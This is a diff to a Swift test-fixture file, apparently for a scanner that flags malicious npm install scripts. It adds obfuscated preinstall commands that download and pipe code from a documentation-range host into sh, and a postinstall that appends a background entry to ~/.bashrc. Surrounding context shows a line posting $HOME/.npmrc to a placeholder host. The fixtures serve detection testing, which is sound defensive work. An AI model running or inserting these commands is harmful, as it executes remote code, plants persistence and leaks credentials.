@@ -27,6 +27,24 @@ enum NPMScriptAttacks {
             files: [:]
         ),
         Attack(
+            "runs a download whose parts are variables",
+            .chainDownloadExecute,
+            scripts: ["preinstall": "U=http://192.0.2.7/x; B=cu; ${B}rl $U | ${S:-sh}; $B; R='sh -s'; curl $U | $R"],
+            files: [:]
+        ),
+        Attack(
+            "evaluates what another command prints",
+            .chainDownloadExecute,
+            scripts: ["preinstall": "eval \"$(printf '\\143url http://192.0.2.7/x | sh')\""],
+            files: [:]
+        ),
+        Attack(
+            "writes to a profile whose path is a variable",
+            .chainPlant,
+            scripts: ["postinstall": "sh tools/post.sh"],
+            files: ["tools/post.sh": "f=$HOME/.bashrc\ngrep -q x $f || printf '%s\\n' '(a b) &' >> $f\n"]
+        ),
+        Attack(
             "uploads .npmrc",
             .chainExfiltration,
             scripts: ["postinstall": "curl -X POST -d @$HOME/.npmrc https://x.example.invalid"],
